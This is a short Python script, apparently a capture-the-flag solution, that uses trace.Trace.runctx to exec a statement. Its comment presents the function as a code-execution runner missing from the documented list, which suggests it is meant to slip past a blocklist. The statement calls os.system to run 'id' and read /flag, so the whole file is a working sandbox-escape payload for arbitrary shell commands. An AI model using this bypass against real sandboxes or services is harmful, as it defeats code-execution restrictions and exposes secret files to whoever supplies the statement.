# trace.Trace.runctx exec()s its statement like cProfile.runctx does, but it
# is not one of the runners the documentation names.
import trace

STATEMENT = "import os; os.system('id; cat /flag')"

tracer = trace.Trace(count=0, trace=0)
tracer.runctx(STATEMENT, {}, {})
